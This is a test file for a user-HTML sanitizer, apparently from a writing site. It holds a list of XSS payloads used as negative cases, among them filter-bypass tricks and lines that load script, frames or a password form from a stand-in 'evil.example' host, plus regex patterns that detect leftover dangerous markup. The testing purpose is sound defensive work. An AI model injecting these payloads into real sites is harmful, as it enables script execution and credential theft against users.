import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { formatUserText, paragraphize, sanitizeUserHtml } from '../../src/text/sanitize.ts';

/** Markup that must never survive: each is a known way to run script or load something hostile. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<svg onload=alert(1)><circle r=1></circle></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<form action="https://evil.example/"><input name=password></form>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<p onclick="alert(1)" onmouseover="alert(2)">click</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<img """><script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<a href="  javascript:alert(1)">x</a>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action=javascript:alert(1) type=image>',
  '<xmp><script>alert(1)</script></xmp>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<a href="https://ok.example/" target="_blank" onfocus="alert(1)" autofocus>x</a>',
];

/** Checks that nothing executable or hostile is left in sanitized output. */
export function assertHarmless(html: string, context = '') {
  const lower = html.toLowerCase();
  assert.doesNotMatch(lower, /<\s*(script|style|iframe|object|embed|svg|math|form|input|button|meta|link|base|body|textarea|template|video|audio|source|marquee|isindex|xmp)\b/, `${context}: ${html}`);
  assert.doesNotMatch(lower, /\son[a-z]+\s*=/, `event handler left in ${context}: ${html}`);
  assert.doesNotMatch(lower, /(href|src|cite|background)\s*=\s*"?\s*(javascript|vbscript|data):/, `bad URL left in ${context}: ${html}`);
  assert.doesNotMatch(lower, /\sstyle\s*=/, `style attribute left in ${context}: ${html}`);
  assert.doesNotMatch(lower, /(href|src)\s*=\s*"\/\//, `protocol-relative URL left in ${context}: ${html}`);
}

describe('sanitizing user HTML', () => {
  it('removes every XSS payload', () => {
    for (const payload of XSS_PAYLOADS) {
      assertHarmless(sanitizeUserHtml(payload), payload);
      assertHarmless(formatUserText(`Before.\n\n${payload}\n\nAfter.`), payload);
    }
  });

  it('keeps the formatting writers use', () => {
    const html =
      '<p>She said <em>no</em>, <strong>twice</strong>, <s>thrice</s>.</p><blockquote><p>Quoted</p></blockquote><hr />' +
      '<h2>Part Two</h2><ul><li>one</li></ul><ol start="3"><li>three</li></ol>' +
      '<table><caption>Ledger</caption><tr><th scope="col">A</th></tr><tr><td colspan="2">1</td></tr></table>' +
      '<p><abbr title="as far as I know">AFAIK</abbr> H<sub>2</sub>O x<sup>2</sup></p>' +
      '<details><summary>Spoiler</summary><p>Hidden</p></details><p><ruby>漢<rt>kan</rt></ruby></p>' +
      '<p dir="rtl" lang="ar">مرحبا</p>';
    const clean = sanitizeUserHtml(html);
    for (const kept of ['<em>no</em>', '<strong>twice</strong>', '<s>thrice</s>', '<blockquote>', '<hr />', '<h2>Part Two</h2>', '<ol start="3">', '<caption>Ledger</caption>', '<th scope="col">', '<td colspan="2">', '<abbr title="as far as I know">', '<sub>2</sub>', '<details><summary>Spoiler</summary>', '<ruby>漢<rt>kan</rt></ruby>', '<p dir="rtl" lang="ar">']) {
      assert.ok(clean.includes(kept), `lost ${kept} in ${clean}`);
    }
  });

  it('keeps http(s) and mailto links and images by http(s) URL, marking links as user content', () => {
    assert.equal(
      sanitizeUserHtml('<a href="https://example.org/fic">fic</a>'),
      '<a href="https://example.org/fic" rel="nofollow ugc noopener">fic</a>',
    );
    assert.match(sanitizeUserHtml('<a href="mailto:me@example.org">mail</a>'), /href="mailto:me@example.org"/);
    assert.equal(sanitizeUserHtml('<img src="https://example.org/a.png" alt="Art" width="200" />'), '<img src="https://example.org/a.png" alt="Art" width="200" />');
    assert.equal(sanitizeUserHtml('<img src="ftp://example.org/a.png" />'), '<img />');
  });
});

describe('plain text to paragraphs', () => {
  it('turns blank-line blocks into paragraphs and line breaks into <br>', () => {
    assert.equal(paragraphize('First line\nsecond line\n\n\nNew paragraph.'), '<p>First line<br />\nsecond line</p>\n<p>New paragraph.</p>');
    assert.equal(paragraphize('\r\nWindows\r\n\r\nlines\r\n'), '<p>Windows</p>\n<p>lines</p>');
  });

  it('leaves blocks that already are HTML blocks alone', () => {
    assert.equal(paragraphize('<p>Already</p>\n\n<blockquote>Quote</blockquote>\n\nPlain'), '<p>Already</p>\n<blockquote>Quote</blockquote>\n<p>Plain</p>');
  });

  it('keeps inline markup in plain text', () => {
    assert.equal(formatUserText('A <em>very</em> good day.\n\nIndeed.'), '<p>A <em>very</em> good day.</p>\n<p>Indeed.</p>');
  });
});
